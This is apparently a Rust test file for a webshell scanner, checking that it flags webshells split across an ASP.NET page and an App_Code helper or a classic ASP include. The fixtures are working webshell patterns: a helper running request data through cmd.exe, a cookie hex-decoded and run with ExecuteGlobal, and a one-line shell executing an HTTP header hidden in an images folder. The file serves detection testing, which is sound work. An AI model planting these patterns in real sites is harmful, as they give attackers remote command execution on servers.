//! Pages read with the files they run: classic ASP includes and App_Code classes. A page
//! handing request data to a helper that runs it is a webshell in two files; the same helper
//! called with the application's own values is not.

use seawall_model::{Finding, Severity};

use crate::{TempDir, builtin_scanner};

const CAPABILITIES: &str = "SW-WEBSHELL-CAPABILITIES";
const HELPER: &str = "SW-WEBSHELL-HELPER";

/// A helper in App_Code: housekeeping methods around one that runs its argument.
const HELPER_CLASS: &str = r#"using System;
using System.Diagnostics;
using System.IO;
namespace Site
{
    public static class Housekeeping
    {
        public static int Clean(string folder)
        {
            int n = 0;
            foreach (string f in Directory.GetFiles(folder)) { File.Delete(f); n++; }
            return n;
        }

        public static string RunTask(string task)
        {
            var si = new ProcessStartInfo("cmd.exe", "/c " + task);
            si.UseShellExecute = false;
            si.RedirectStandardOutput = true;
            using (Process p = Process.Start(si)) { return p.StandardOutput.ReadToEnd(); }
        }
    }
}
"#;

fn page(argument: &str) -> String {
    format!(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Page_Load(object sender, EventArgs e)\n{{\n    \
         string t = Request.Form[\"task\"];\n    if (!String.IsNullOrEmpty(t)) {{ out1.Text = Housekeeping.RunTask({argument}); }}\n}}\n\
         </script>\n<html><body><asp:Literal ID=\"out1\" runat=\"server\" /></body></html>\n"
    )
}

fn severity_of<'f>(findings: &'f [Finding], id: &str) -> Option<&'f Finding> {
    findings.iter().find(|f| f.rule.id == id)
}

#[test]
fn a_page_handing_request_data_to_an_app_code_helper_that_runs_it_is_a_webshell_and_so_is_the_helper() {
    let scanner = builtin_scanner();
    let dir = TempDir::new("split");
    let helper = dir.write("site/App_Code/Housekeeping.cs", HELPER_CLASS.as_bytes());
    let shell = dir.write("site/admin/Maintenance.aspx", page("t").as_bytes());
    let outcome = scanner.examine(&shell, r"C:\inetpub\site\admin\Maintenance.aspx");
    let found = severity_of(&outcome.findings, CAPABILITIES).expect("the page's verdict");
    assert!(found.severity >= Severity::High, "{found:?}");
    assert!(
        found.evidence.iter().any(|e| e.source == "companion" && e.display_text().contains("Housekeeping.cs")),
        "{:?}",
        found.evidence
    );
    let helper_finding = severity_of(&outcome.companion_findings, HELPER).expect("the helper's finding");
    let seawall_model::Location::File { path, .. } = &helper_finding.location else { panic!("a file location") };
    // Shown as the page is: its Windows path, not the folder it was read from.
    assert_eq!(path, r"C:\inetpub\site\App_Code\Housekeeping.cs");
    assert!(helper_finding.evidence.iter().any(|e| e.display_text().contains("Maintenance.aspx")));

    // Alone, neither file is a webshell: the helper runs a parameter as utilities do.
    let alone = scanner.examine(&helper, r"C:\inetpub\site\App_Code\Housekeeping.cs");
    assert!(alone.max_severity() < Some(Severity::Medium), "{:?}", alone.findings);
    let data = std::fs::read(&shell).expect("page");
    let archived = scanner.file_scanner().scan_data(&data, "collection.zip:site/admin/Maintenance.aspx");
    assert!(
        archived.max_severity() < Some(Severity::Medium),
        "no companions inside an archive: {:?}",
        archived.findings
    );
}

#[test]
fn a_page_calling_the_helper_with_its_own_value_is_not() {
    let scanner = builtin_scanner();
    let dir = TempDir::new("split-benign");
    dir.write("site/App_Code/Housekeeping.cs", HELPER_CLASS.as_bytes());
    let page = dir.write("site/admin/Maintenance.aspx", page("\"iisreset /status\"").as_bytes());
    let outcome = scanner.examine(&page, "site/admin/Maintenance.aspx");
    assert!(outcome.max_severity() < Some(Severity::Medium), "{:?}", outcome.findings);
    assert!(outcome.companion_findings.is_empty());
}

#[test]
fn an_include_that_runs_what_the_page_passes_makes_both_webshells() {
    let scanner = builtin_scanner();
    let dir = TempDir::new("split-include");
    dir.write(
        "shop/includes/prefs.asp",
        b"<%\nFunction Unhex(s)\nDim i, o\nFor i = 1 To Len(s) Step 2\no = o & Chr(CLng(\"&H\" & Mid(s, i, 2)))\nNext\n\
          Unhex = o\nEnd Function\nSub ApplyPrefs(p)\nIf Len(p) < 4 Then Exit Sub\nExecuteGlobal Unhex(p)\nEnd Sub\n\
          Function Price(v)\nPrice = FormatNumber(v, 2)\nEnd Function\n%>\n",
    );
    let page = dir.write(
        "shop/search.asp",
        b"<%@ Language=\"VBScript\" %>\n<!--#include virtual=\"/shop/includes/prefs.asp\"-->\n<%\n\
          If Request.Cookies(\"sp\") <> \"\" Then ApplyPrefs Request.Cookies(\"sp\")\nResponse.Write Price(3)\n%>\n",
    );
    let outcome = scanner.examine(&page, "shop/search.asp");
    let found = severity_of(&outcome.findings, CAPABILITIES).expect("the page's verdict");
    assert!(found.severity >= Severity::High, "{found:?}");
    let helper = severity_of(&outcome.companion_findings, HELPER).expect("the include's finding");
    assert_eq!(
        helper.location,
        seawall_model::Location::File { path: "shop/includes/prefs.asp".into(), line: None, record: None }
    );
}

#[test]
fn a_page_including_a_webshell_is_not_reported_as_one_the_include_is() {
    let scanner = builtin_scanner();
    let dir = TempDir::new("include-shell");
    let include = dir.write("site/images/banner.asp", b"<%\nExecute Request.ServerVariables(\"HTTP_X_B\")\n%>\n");
    let page =
        dir.write("site/default.asp", b"<!--#include file=\"images/banner.asp\"-->\n<% Response.Write \"home\" %>\n");
    assert!(scanner.examine(&include, "site/images/banner.asp").max_severity() >= Some(Severity::High));
    let outcome = scanner.examine(&page, "site/default.asp");
    assert!(outcome.max_severity() < Some(Severity::Medium), "{:?}", outcome.findings);
    assert!(outcome.companion_findings.is_empty());
}
